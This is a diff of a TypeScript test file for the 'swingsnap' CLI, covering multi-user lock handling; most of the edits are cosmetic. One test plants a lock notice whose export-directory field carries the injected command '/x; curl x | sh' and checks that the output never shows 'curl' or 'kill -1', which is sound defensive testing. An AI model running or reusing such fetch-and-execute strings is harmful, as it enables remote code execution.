@@ -1,6 +1,6 @@
 /** Other users and the locks on operations. */
-import { once } from 'node:events';
 import type { ChildProcess } from 'node:child_process';
+import { once } from 'node:events';
 import { existsSync, lchownSync, statSync, type Stats } from 'node:fs';
 import { chmod, chown, cp, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
 import { dirname, join } from 'node:path';
@@ -39,7 +39,7 @@ beforeEach(async () => {
 
 /** oclif asks passwd for the shell of a user who names none. */
 function envOf(uid: number): Record<string, string> {
-  const state = join(dir, `state-${String(uid)}`);
+  const state = join(dir, `state-${uid}`);
   return { SHELL: '/bin/sh', SWINGSNAP_LOCK_DIR: locks, SWINGSNAP_STATE_DIR: state };
 }
 
@@ -50,7 +50,7 @@ async function swingsnap(uid: number, ...args: readonly string[]): Promise<Ended
 /** A name that another user gives to files among the locks of version 0.1.0, as that would for `locked`. */
 function planted(locked: string, suffix: string): string {
   const { dev, ino }: Stats = statSync(locked);
-  return join(locks, `${String(dev)}-${String(ino)}${suffix}`);
+  return join(locks, `${dev}-${ino}${suffix}`);
 }
 
 async function plant(path: string, bytes: Uint8Array | string, mode: number): Promise<void> {
@@ -148,7 +148,7 @@ describe('files that another user has made first', () => {
     for (const locked of [S, join(S, 'swingstore.sqlite')])
       await plant(planted(locked, '.lock'), text, mode);
     for (const uid of [ROOT, ALICE]) {
-      const E = join(dir, `E-${String(uid)}`);
+      const E = join(dir, `E-${uid}`);
       const ended = await swingsnap(uid, 'export', '--state-dir', S, '--export-dir', E);
       expect(ended, ended.stderr).toMatchObject({ exitCode: 0 });
     }
@@ -174,7 +174,7 @@ describe('another user who holds a lock', () => {
       expect(JSON.parse(told.stdout)).toMatchObject({
         error: {
           code: 'BUSY',
-          found: expect.stringContaining(`process ${process} of user ${String(MALLORY)}`) as string,
+          found: expect.stringContaining(`process ${process} of user ${MALLORY}`) as string,
           hint: expect.stringContaining(`kill ${process}`) as string,
         },
       });
@@ -220,7 +220,7 @@ describe('another user who holds a lock', () => {
         exportDir: '/x; curl x | sh',
       });
       const { dev, ino } = statSync(S);
-      const name = `${String(dev)}-${String(ino)}.json`;
+      const name = `${dev}-${ino}.json`;
       await plant(join(locks, name), notice, 0o644);
       const operations = join(dir, 'state-0', 'operations');
       await mkdir(operations, { recursive: true });
@@ -231,7 +231,7 @@ describe('another user who holds a lock', () => {
         expect(stdout + stderr).not.toMatch(/curl|kill -1/u);
       }
       const status = await swingsnap(ROOT, 'status', '--state-dir', S);
-      expect(status.stdout).toContain(`process ${String(mallory.pid)} of user ${String(MALLORY)}`);
+      expect(status.stdout).toContain(`process ${mallory.pid} of user ${MALLORY}`);
     } finally {
       await end(mallory);
     }
@@ -252,7 +252,7 @@ describe('two users on one store', () => {
       }
       const told = await swingsnap(ROOT, 'restore', store, '--state-dir', S, '--replace', '--json');
       expect(told.exitCode).toBe(4);
-      expect(told.stdout).toContain(`of user ${String(ALICE)}`);
+      expect(told.stdout).toContain(`of user ${ALICE}`);
       // Nothing but its record tells root what it is.
       const discarded = await swingsnap(ROOT, 'discard', '--export-dir', join(dir, 'E'), '--json');
       expect(JSON.parse(discarded.stdout)).toMatchObject({ ended: true });
